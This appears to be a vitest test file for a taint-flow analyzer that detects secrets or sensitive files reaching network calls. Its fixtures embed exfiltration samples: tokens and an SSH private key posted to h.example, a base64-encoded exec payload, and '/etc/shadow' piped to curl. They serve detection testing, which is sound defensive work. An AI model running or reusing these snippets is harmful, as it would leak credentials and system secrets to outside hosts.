import { describe, expect, it } from 'vitest';
import { inspected } from '../inspect.fixture.ts';
import { flowSchema } from '../site.ts';
import { flowsIn } from './flows.fixture.ts';

const LINES = 20_000;

function lines(count: number, line: (index: number) => string): string {
  return Array.from({ length: count }, (_, index) => line(index)).join('\n');
}

describe('a flow', () => {
  it('tells each step with its place, the source first and the sink last', async () => {
    const { flows, sites } = await inspected(
      'python',
      "import os, requests\n\ndef wrap(x):\n  return {'v': x}\n\nbody = wrap(os.environ['GITHUB_TOKEN'])\nrequests.post('http://h.example', json=body)",
    );
    const [flow] = flows;
    expect(flow).toMatchObject({ id: 'flow:1', from: 'secret', source: 'GITHUB_TOKEN', part: 'content' });
    expect(sites.find(({ id }) => id === flow?.sink)).toMatchObject({ callee: 'requests.post', line: 7 });
    expect(flow?.steps).toEqual([
      { file: 'main', line: 6, what: 'os.environ[GITHUB_TOKEN]' },
      { file: 'main', line: 6, what: 'passed to wrap as x' },
      { file: 'main', line: 6, what: 'returned by wrap' },
      { file: 'main', line: 6, what: 'assigned to body' },
      { file: 'main', line: 7, what: 'requests.post' },
    ]);
  });

  it.each([
    ["requests.post(u, json={'k': t})", 'content'],
    ["requests.post(u, headers={'Authorization': t})", 'credential'],
    ["requests.post(u, headers={'X-Note': t})", 'content'],
    ['requests.get("http://h.example/" + t)', 'target'],
  ])('says what it becomes: %s', async (call, part) => {
    const { flows } = await inspected('python', `import os, requests\nt = os.environ['GITHUB_TOKEN']\n${call}`);
    expect(flows.map((flow) => flow.part)).toEqual([part]);
  });

  it('goes on inside of code that the file holds as data, at the place of the file', async () => {
    const inner = "import requests\nk = open('/root/.ssh/id_rsa').read()\nrequests.post('http://h.example', data=k)";
    const { flows, sites } = await inspected(
      'python',
      `import base64\nexec(base64.b64decode('${Buffer.from(inner).toString('base64')}'))`,
    );
    expect(flows).toHaveLength(1);
    expect(sites.find(({ id }) => id === flows[0]?.sink)).toMatchObject({ callee: 'requests.post', line: 2 });
    expect(flows[0]?.steps.every(({ file, line }) => file === 'main' && line === 2)).toBe(true);
  });

  it('is the same each time', async () => {
    const code = `import os, requests\n${lines(50, (index) => `requests.post(u, data=os.environ['T${index % 7}'] + x)`)}`;
    const [one, other] = [await inspected('python', code), await inspected('python', code)];
    expect(one.flows).toEqual(other.flows);
    expect(one.flows.length).toBe(50);
  });

  it('has at most 20 steps, however long the way is', async () => {
    const { flows } = await inspected(
      'python',
      `import os, requests\nx = os.environ['API_KEY']\n${lines(500, (index) => `x = x + '${index}'`)}\nrequests.post(u, data=x)`,
    );
    expect(flows[0]?.steps).toHaveLength(20);
    expect(flows[0]?.steps.at(0)?.line).toBe(2);
    expect(flows[0]?.steps.at(-1)?.what).toBe('requests.post');
    expect(flowSchema.safeParse(flows[0]).success).toBe(true);
  });

  it('is one of a few hundred at most, and what is left out is said', async () => {
    const code = `import os, requests\n${lines(1_000, (index) => `requests.post(u, data=os.environ['API_KEY_${index}'])`)}`;
    const { flows, skipped } = await inspected('python', code);
    expect(flows).toHaveLength(300);
    expect(skipped).toContainEqual({ file: 'main', reason: expect.stringContaining('more ways than are followed') });
  });
});

describe('following data is bounded', () => {
  it.each<[what: string, language: 'python' | 'javascript' | 'bash', code: string]>([
    [
      'a long line of assignments',
      'python',
      `x = open('/etc/shadow')\n${lines(LINES, (i) => `x = x + str(${i})`)}\nprint(x)`,
    ],
    [
      'functions that all call each other',
      'python',
      lines(300, (i) => `def f${i}(x, y): return f${(i * 7 + 1) % 300}(y, x) + f${(i * 13 + 5) % 300}(x, x)`),
    ],
    [
      'loops inside of loops',
      'python',
      `x = open('/etc/shadow')\n${lines(60, (i) => `${' '.repeat(i)}for v${i} in x:`)}\n${lines(500, (i) => `${' '.repeat(60)}x = x + v${i % 60}`)}`,
    ],
    [
      'brackets without end',
      'python',
      `import requests\nrequests.post(u, data=${'('.repeat(20_000)}open('/etc/shadow')${')'.repeat(20_000)})`,
    ],
    [
      'branches without end',
      'python',
      `if a: x = open('/etc/shadow')\n${lines(5_000, (i) => `elif b${i}: x${i % 300} = x`)}`,
    ],
    [
      'callbacks that share a variable',
      'javascript',
      `let s = process.env.TOKEN;\n${lines(3_000, (i) => `q(${i}, (a, b) => { s += a; fetch(u, { body: s + b }); });`)}`,
    ],
    [
      'functions inside of functions',
      'javascript',
      `const k = process.env.TOKEN;${'(() => { let x = k; '.repeat(300)}fetch(u, { body: x })${'})();'.repeat(300)}`,
    ],
    ['a pipe of thousands', 'bash', `cat /etc/shadow ${'| tr a b '.repeat(2_000)}| curl -d @- h.example`],
    [
      'a thousand files that are written',
      'bash',
      `x=$(cat /etc/shadow)\n${lines(3_000, (i) => `x="$x${i}"; echo "$x" > /tmp/f${i}`)}`,
    ],
  ])('in %s', { timeout: 60_000 }, async (_, language, code) => {
    const started = performance.now();
    await flowsIn(language, code);
    // Generous: the machine may be busy, and quadratic work would take minutes.
    expect(performance.now() - started).toBeLessThan(45_000);
  });

  it('and programs that stop half-way or hold no data say nothing', async () => {
    for (const code of ['', '((((', 'def', 'x = ', 'import', 'for', 'class C(', 'requests.post(', '@'])
      expect(await flowsIn('python', code)).toEqual([]);
    for (const code of ['', '({', 'const {', 'class', 'fetch(', '`${', 'import {', '=>'])
      expect(await flowsIn('javascript', code)).toEqual([]);
    for (const code of ['', '$(', 'if', 'f() {', 'curl "', 'cat <<E', '| |'])
      expect(await flowsIn('bash', code)).toEqual([]);
  });
});
